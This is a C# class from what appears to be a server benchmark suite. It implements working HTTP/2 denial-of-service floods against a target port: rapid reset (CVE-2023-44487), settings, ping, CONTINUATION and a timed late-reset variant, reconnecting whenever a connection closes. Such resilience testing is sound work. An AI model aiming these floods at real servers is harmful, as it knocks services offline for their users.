using System.Buffers.Binary;
using System.Diagnostics;
using System.Net.Sockets;

namespace Mosn.Bench.Load;

/// <summary>
/// Floods of HTTP/2: sends frames that cost their receiver more than their sender, as fast as it can; when the connection is
/// closed it opens the next.
/// </summary>
internal sealed class Http2Attack(int port, string kind)
{
    private const int StreamIdsMax = 1_000_000; // Then a new connection, long before the ids are used up.
    private const int BlockFrames = 512;
    private const int LateStreams = 90; // As many as a server may leave open at a time, and a few less.

    private static readonly byte[] s_head = [0x82, 0x86, 0x84, 0x41, 0x01, (byte)'a']; // GET http://a/

    private readonly byte[] _sink = new byte[64 * 1024];
    private long _frames;
    private long _closed;

    public void Run(int seconds)
    {
        if (!InternalCommands.ReadyAndGo())
        {
            return;
        }
        long start = Stopwatch.GetTimestamp();
        while (Stopwatch.GetElapsedTime(start).TotalSeconds < seconds)
        {
            try
            {
                using Socket socket = PingClient.Connect(port);
                socket.Send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
                socket.Send(Frame(4, 0, 0, []));
                Flood(socket, start, seconds);
            }
            catch (SocketException)
            {
                _closed++;
            }
        }
        Console.WriteLine(new LoadResult(_frames, _closed, Stopwatch.GetElapsedTime(start).TotalSeconds, 0, 0));
        InternalCommands.WaitForEnd();
    }

    private void Flood(Socket socket, long start, int seconds)
    {
        for (int id = 1; id < StreamIdsMax && Stopwatch.GetElapsedTime(start).TotalSeconds < seconds; id += 2 * BlockFrames)
        {
            if (kind == "late-reset")
            {
                SendLateResets(socket, id);
            }
            else
            {
                SendBlock(socket, id);
            }
        }
    }

    private void SendBlock(Socket socket, int id)
    {
        socket.Send([.. Enumerable.Range(0, BlockFrames).SelectMany(i => Frames(id + (2 * i), isFirst: id == 1 && i == 0))]);
        _frames += BlockFrames;
        while (socket.Available > 0 && socket.Receive(_sink) > 0)
        {
            // What it answers is of no interest, but it must not pile up here.
        }
    }

    /// <summary>
    /// Requests, and in a packet of their own their ends, which a receiver that is not busy reads when it has begun the
    /// requests. The next come when it has answered a PING, or they would be read together with these ends.
    /// </summary>
    private void SendLateResets(Socket socket, int id)
    {
        IEnumerable<int> ids = Enumerable.Range(0, LateStreams).Select(i => id + (2 * i));
        byte[] heads = [.. ids.SelectMany(stream => Frame(1, 5, stream, s_head))];
        byte[] ends = [.. ids.SelectMany(stream => Frame(3, 0, stream, [0, 0, 0, 8])), .. Frame(6, 0, 0, new byte[8])];
        socket.Send(heads);
        socket.Send(ends);
        _frames += LateStreams;
        byte[] header = new byte[9];
        do
        {
            ReceiveAll(socket, header);
            ReceiveAll(socket, _sink.AsSpan(0, BinaryPrimitives.ReadInt32BigEndian(header) >> 8));
        }
        while (header is not [_, _, _, 6, 1, ..]);
    }

    private static void ReceiveAll(Socket socket, Span<byte> room)
    {
        while (!room.IsEmpty)
        {
            int length = socket.Receive(room);
            if (length == 0)
            {
                throw new SocketException((int)SocketError.ConnectionReset);
            }
            room = room[length..];
        }
    }

    private IEnumerable<byte> Frames(int id, bool isFirst) => kind switch
    {
        // CVE-2023-44487: a request and, before it can be answered, its end.
        "rapid-reset" => [.. Frame(1, 5, id, s_head), .. Frame(3, 0, id, [0, 0, 0, 8])],
        "settings" => Frame(4, 0, 0, [0, 4, 0, 1, 0, 0]),
        "ping" => Frame(6, 0, 0, new byte[8]),
        "continuation" => isFirst ? Frame(1, 1, 1, s_head) : Frame(9, 0, 1, [0x10, 1, (byte)'a', 1, (byte)'b']),
        _ => throw new BenchException($"no attack named {kind}"),
    };

    private static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
    {
        byte[] frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame.AsSpan(9));
        return frame;
    }
}
